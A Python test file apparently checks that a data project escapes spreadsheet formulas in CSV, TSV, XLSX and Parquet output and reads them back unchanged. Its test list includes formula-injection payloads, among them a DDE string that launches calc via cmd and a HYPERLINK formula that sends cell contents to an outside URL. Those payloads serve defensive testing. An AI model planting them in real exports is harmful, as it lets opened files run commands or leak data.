"""Text of the data in files that spreadsheets open: never a formula, and the same when read."""

import csv

import numpy as np
import pandas as pd
import pytest

from tfp_vae import cells, data, report

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://a.b/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "-A1",
    " =1",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "'=1",
    "''=1",
    "--1",
    "=nan",
    "-",
    "+",
]
AS_THEY_ARE = ["-1.5", "+3", "-1e-5", "-inf", "a=b", "a@b.c", "", "1-2", "-", "+", "'n'", "O'Neill"]


@pytest.mark.parametrize("text", FORMULAS[:14])
def test_text_that_a_spreadsheet_would_run_has_an_apostrophe_before_it(text):
    assert cells.guarded(text) == f"'{text}"
    assert cells.unguarded(f"'{text}") == text


@pytest.mark.parametrize("value", [*AS_THEY_ARE, -1.5, None, True, np.float32(-2)])
def test_numbers_and_other_text_are_written_as_they_are(value):
    assert cells.guarded(value) is value and cells.unguarded(value) is value


def starts(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        delimiter = "\t" if path.suffix == ".tsv" else ","
        return {cell[:1] for row in csv.reader(file, delimiter=delimiter) for cell in row}


def test_what_programs_write_of_rows_is_no_formula(tmp_path):
    path = tmp_path / "found.csv"
    report.write_columns(path, {"=name": FORMULAS, "score": -np.arange(16.0)})
    assert starts(path) <= {"'", "s", "-", "+", "0"}
    with path.open(newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["'=name", "score"] and rows[1][1] == "-1" and rows[14][0] == "-"
    assert [cells.unguarded(row[0]) for row in rows] == FORMULAS


def test_the_table_of_runs_has_no_formula(tmp_path):
    for name, flag in (("=a", "-2+3"), ("=b", "=1+1")):
        (tmp_path / name).mkdir()
        flags = f"# tfp-vae train-vae\n--name={flag}\n"
        (tmp_path / name / "flags.txt").write_text(flags, "utf-8")
        (tmp_path / name / "metrics.json").write_text('{"test_elbo": -1.5}', "utf-8")
    table = report.tabulate(report.find_runs([tmp_path])).csv()
    rows = list(csv.DictReader(table.splitlines()))
    assert {row["name"] for row in rows} == {"'-2+3", "'=1+1"}
    assert {row["test_elbo"] for row in rows} == {"-1.5"}


@pytest.mark.parametrize("ending", [".csv", ".tsv", ".xlsx", ".parquet"])
def test_tables_that_are_written_are_those_that_are_read(tmp_path, ending):
    path = tmp_path / f"out{ending}"
    texts = [each.strip() for each in FORMULAS if "\r" not in each and len(each) > 1]
    frame = pd.DataFrame({"=SUM(A1)": texts, "x": -np.arange(len(texts), dtype=float)})
    frame["lines"] = "a\rb\r\nc"
    frame["when"] = pd.Timestamp("2020-01-01")
    frame["kind"] = pd.Categorical((["=1", None, "b"] * len(texts))[: len(texts)])
    data.write_frame(frame, path)
    if ending in (".csv", ".tsv"):
        assert starts(path) <= {"'", "x", "l", "a", "w", "k", "b", "2", "-", ""}
        assert "2020-01-01\t" in path.read_text("utf-8-sig").replace(",", "\t")
    if ending == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path)
        assert "f" not in {cell.data_type for row in book.active.iter_rows() for cell in row}
    again = data.read_frame(path)
    assert list(again) == list(frame) and list(again["=SUM(A1)"]) == texts
    np.testing.assert_array_equal(again["x"], frame["x"])
    assert set(again["lines"]) == {"a\rb\r\nc" if ending in (".csv", ".tsv") else again["lines"][0]}
    assert again["kind"].isna().tolist() == frame["kind"].isna().tolist()


def test_classes_that_look_like_formulas_are_read_as_they_were(tmp_path):
    frame = pd.DataFrame({"x": np.arange(20.0), "y": ["=1+1", "-a"] * 10})
    data.write_frame(frame, tmp_path / "in.csv")
    assert data.load(tmp_path / "in.csv").class_names == ("-a", "=1+1")
